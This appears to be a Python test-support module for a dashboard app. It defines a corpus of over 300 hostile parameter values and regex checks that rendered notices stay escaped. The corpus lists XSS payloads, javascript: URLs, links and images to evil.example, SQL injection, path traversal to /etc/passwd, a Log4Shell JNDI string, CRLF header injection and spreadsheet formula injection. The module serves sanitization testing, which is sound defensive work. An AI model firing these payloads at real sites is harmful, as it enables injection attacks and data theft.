"""The hostile corpus of issue 13 and the checks that every page must pass with it.

CORPUS holds at least 300 values: HTML and script, markdown links and images, LaTeX, `javascript:`
and other schemes, 10 kB strings, unicode (RTL, zero-width, emoji, combining), CRLF and NUL,
NaN/inf/negative/huge/non-integer numbers, formula-like text; each is sent as a parameter value and,
on some runs, as an unknown parameter's name or a repeated parameter.
"""

from __future__ import annotations

import re

from dashboard.components.i18n import translate

NOTICE_LIMIT = 200  # the bound, whatever the input

OUTSIDE = "http://127.0.0.1:8629"  # a port nothing listens on: the address the review used
EVIL = "https://evil.example"

HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={OUTSIDE}/p.png>",
    f"<a href='{EVIL}/'>click</a>",
    f"<iframe src={EVIL}></iframe>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    "</div><h1>owned</h1>",
    "<b>bold</b>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<object data={EVIL}></object>",
    "<video src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mi>x</mi></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- comment -->",
    f"<base href={EVIL}/>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<marquee>hi</marquee>",
    f"<audio src={OUTSIDE}/a.mp3>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    f'<div style="background:url({EVIL}/bg.png)">x</div>',
]
MARKDOWN = [
    f"[Official notice]({OUTSIDE}/phish)",
    f"![x]({OUTSIDE}/p.png)",
    f"![x]({EVIL}/p.png)",
    "[x](javascript:alert(1))",
    f"<{EVIL}>",
    f"{EVIL}/a",
    "www.evil.example",
    f"[a]: {EVIL}",
    "**bold**",
    "# Heading",
    "> quote",
    "- item",
    "1. item",
    "`code`",
    "```\nfence\n```",
    "~~strike~~",
    "| a | b |\n|---|---|\n| c | d |",
    "---",
    "*emph*",
    "_emph_",
    ":red[**BIG**]",
    ":material/home:",
    ":smile:",
    ":blue-background[x]",
    f"[![img]({EVIL}/i.png)]({EVIL})",
    "![](data:image/png;base64,iVBORw0KGgo=)",
    "[x](//evil.example)",
    f"[x][ref]\n\n[ref]: {EVIL}",
    f"[click]({OUTSIDE}/phish 'title')",
    "\\*not emph\\*",
    "<mailto:a@evil.example>",
    "a@evil.example",
]
LATEX = [
    "$$x^2$$",
    "$x$",
    "\\(x\\)",
    "\\[x\\]",
    f"$\\href{{{EVIL}}}{{click}}$",
    f"$$\\includegraphics{{{EVIL}/x.png}}$$",
    ":red[**BIG**] $$x^2$$",
    "$\\color{red}{x}$",
    "\\begin{equation}x\\end{equation}",
    "$$\\unicode{x1F600}$$",
    "$\\url{https://evil.example}$",
]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&#58;alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f"{OUTSIDE}/p.png",
    "//evil.example/x",
    "ftp://evil.example/x",
]
LONG = [
    "x" * 10_000,
    "<" * 10_000,
    f"[a]({EVIL})" * 500,
    "é" * 5_000,
    "𝕏" * 3_000,
    "$" * 10_000,
    "9" * 10_000,
    "a," * 5_000,
]
UNICODE = [
    "\u202eevil",
    "مرحبا",
    "שלום",
    "a\u200bb",
    "\u200d",
    "\ufeff",
    "🎬🌱💶",
    "👩\u200d👩\u200d👧\u200d👦",
    "e\u0301\u0301\u0301",
    "Z\u0351\u0352\u0357\u0350a\u035b\u0346l\u0315g\u0352o",
    "Ⅻ",
    "２０",
    "٢٠",
    "١٠٠",
    "²",
    "\u00a0",
    "\u2028",
    "\u2029",
    "İ",
    "\u2066x\u2069",
    "ﷺ",
    "漢字",
]
CONTROL = ["a\r\nb", "\r\n\r\nX-Injected: 1", "\x00", "a\x00b", "\n", "\t", "\x1b[31mred", "\x7f", "\x08", "\r"]
NUMBERS = [
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "-1",
    "-0",
    "1e309",
    "1e3",
    "1E2",
    "0x10",
    "1_000",
    "20.5",
    "90.6",
    "91",
    "95",
    "101",
    "-5",
    "4.9999",
    "1.0",
    "20.0",
    "+20",
    " 20",
    "20 ",
    "0.000001",
    "1e-7",
    "99999999999999999999",
    "2,5",
    "5e1",
    "0b101",
    "−5",
    "٫5",
    "1/0",
    "",
]
OTHER = [
    "' OR 1=1 --",
    "1; DROP TABLE works",
    "%00",
    "%0d%0a",
    "%3Cscript%3E",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "{params}",
    "{0}",
    "%s%s%s",
    "\\",
    "'",
    '"',
    "`",
    "&",
    ";",
    "|",
    '=HYPERLINK("http://evil.example","click")',
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
BASE = HTML + MARKDOWN + LATEX + SCHEMES + LONG + UNICODE + CONTROL + NUMBERS + OTHER
# Each short payload also hidden behind a valid code (`animation,<payload>`) or after plain text.
WRAPPED = [f"animation,{value}" for value in HTML + MARKDOWN + LATEX + SCHEMES] + [
    f"ok {value} ok" for value in UNICODE + CONTROL + OTHER
]
CORPUS = list(dict.fromkeys(BASE + WRAPPED))
assert len(CORPUS) >= 300, len(CORPUS)


def case_id(value: str) -> str:
    """A short printable name for a corpus value in assertion messages."""
    text = repr(value)
    return text if len(text) <= 60 else f"{text[:45]}…(+{len(text) - 45})"


# --- the checks ---------------------------------------------------------------------------------

_CODE = r"`[0-9A-Za-z_.,+\- =…]+`"


def notice_pattern(lang: str) -> re.Pattern:
    """The only shape the "parameters ignored" notice may have: fixed text around inline code items."""
    before, after = translate("common.dropped_params", lang).split("{params}")
    more = re.escape(translate("common.dropped_more", lang)).replace(r"\{count\}", r"[0-9]+")
    items = rf"(?:{_CODE}(?:, {_CODE})*(?: {more})?|{more})"
    return re.compile(re.escape(before) + items + re.escape(after))


def is_notice(text: str, lang: str) -> bool:
    """Whether a text is the "parameters ignored" notice."""
    return text.startswith(translate("common.dropped_params", lang).split("{params}")[0])


def notice_problems(text: str, lang: str) -> list[str]:
    """What is wrong with a notice: too long, or anything beyond fixed text and plain inline code."""
    problems = []
    if len(text) > NOTICE_LIMIT:
        problems.append(f"notice of {len(text)} characters")
    if not notice_pattern(lang).fullmatch(text):
        problems.append(f"notice not escaped: {text[:120]!r}")
    return problems


URL_IN_TEXT = re.compile(
    r"(?i)(?:https?:|javascript:|vbscript:|data:|file:|ftp:|//evil|evil\.example|127\.0\.0\.1:8629)"
)


TEXT_KINDS = ("title", "header", "subheader", "markdown", "caption", "info", "warning", "success", "error", "text")
WIDGET_KINDS = ("button", "download_button", "toggle", "checkbox", "selectbox", "button_group", "slider", "text_input")


def page_texts(at) -> list[str]:
    """Every text an AppTest run draws, sidebar included (not the values typed into input widgets)."""
    texts = []
    for kind in (*TEXT_KINDS, "code", "latex", "exception"):
        texts += [str(element.value) for element in at.get(kind)]
    for metric in at.metric:
        texts += [str(metric.label), str(metric.value), str(getattr(metric, "help", "") or "")]
    for kind in WIDGET_KINDS:
        for widget in at.get(kind):
            texts += [str(getattr(widget, "label", "") or ""), str(getattr(widget, "help", "") or "")]
    texts += [str(e.label) for e in at.get("expander")] + [str(tab.label) for tab in at.get("tab")]
    return texts
